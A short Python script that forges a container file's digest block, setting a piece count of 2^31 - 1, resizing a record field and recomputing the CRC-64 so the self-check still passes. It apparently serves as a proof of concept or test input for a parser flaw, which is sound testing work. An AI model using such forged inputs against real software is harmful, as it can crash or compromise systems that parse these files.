#!/usr/bin/env python3
"""Forges a container's digest block: a block whose self-check holds but which claims the most
pieces a block can (2^31 - 1, of one byte each), record 2's size made to fit.

  forge_block.py CONTAINER
"""
import struct
import sys

HEADER, RECORD, START = 28672, 256, 24


def crc64_xz(data):
    crc = 0xFFFFFFFFFFFFFFFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = (crc >> 1) ^ (0xC96C5795D7870F42 if crc & 1 else 0)
    return crc ^ 0xFFFFFFFFFFFFFFFF


def main(path):
    with open(path, "r+b") as f:
        f.seek(HEADER)
        header = bytearray(f.read(8 * RECORD))
        block = bytearray(b"".join(header[r * RECORD + START:(r + 1) * RECORD] for r in range(1, 8)))
        pieces = 2**31 - 1
        first = struct.unpack_from("<Q", block, 16)[0]
        run = (pieces - 1) // 395 + 1
        struct.pack_into("<IQQI", block, 12, pieces, first, 1, run)
        total = str(first + pieces - 1).encode()
        header[RECORD:RECORD + START] = bytes([len(total)]) + total + bytes(START - 1 - len(total))
        for r in range(1, 8):
            header[r * RECORD + START:(r + 1) * RECORD] = block[(r - 1) * 232:r * 232]
        header[-8:] = struct.pack("<Q", crc64_xz(bytes(header[:-8])))
        f.seek(HEADER)
        f.write(header)


if __name__ == "__main__":
    main(sys.argv[1])
